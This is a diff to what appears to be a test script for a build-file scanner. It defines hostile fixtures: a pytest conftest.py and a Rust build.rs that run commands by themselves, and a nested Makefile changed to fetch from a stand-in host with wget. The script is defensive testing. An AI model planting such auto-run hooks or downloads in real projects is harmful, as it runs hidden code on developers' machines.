@@ -374,8 +374,8 @@ EOF
 hostile build-conftest 'build-file=ask@tests/conftest[.]py' 'what pytest loads by itself' <<'EOF'
 echo 'import os; os.system("id")' >tests/conftest.py
 EOF
-hostile build-nested 'build-file=ask@src/deep/Makefile' 'a Makefile deep in the tree' <<'EOF'
-mkdir src/deep && printf 'all:\n\tid\n' >src/deep/Makefile
+hostile build-nested 'build-rules=note@src/deep/Makefile build-download=ask@src/deep/Makefile' 'a Makefile deep in the tree that reaches out' <<'EOF'
+mkdir src/deep && printf 'all:\n\twget -q https://get.example.test/x\n' >src/deep/Makefile
 EOF
 hostile build-rust 'build-file=ask@build[.]rs' 'a program that cargo runs' <<'EOF'
 echo 'fn main() { std::process::Command::new("id").spawn(); }' >build.rs
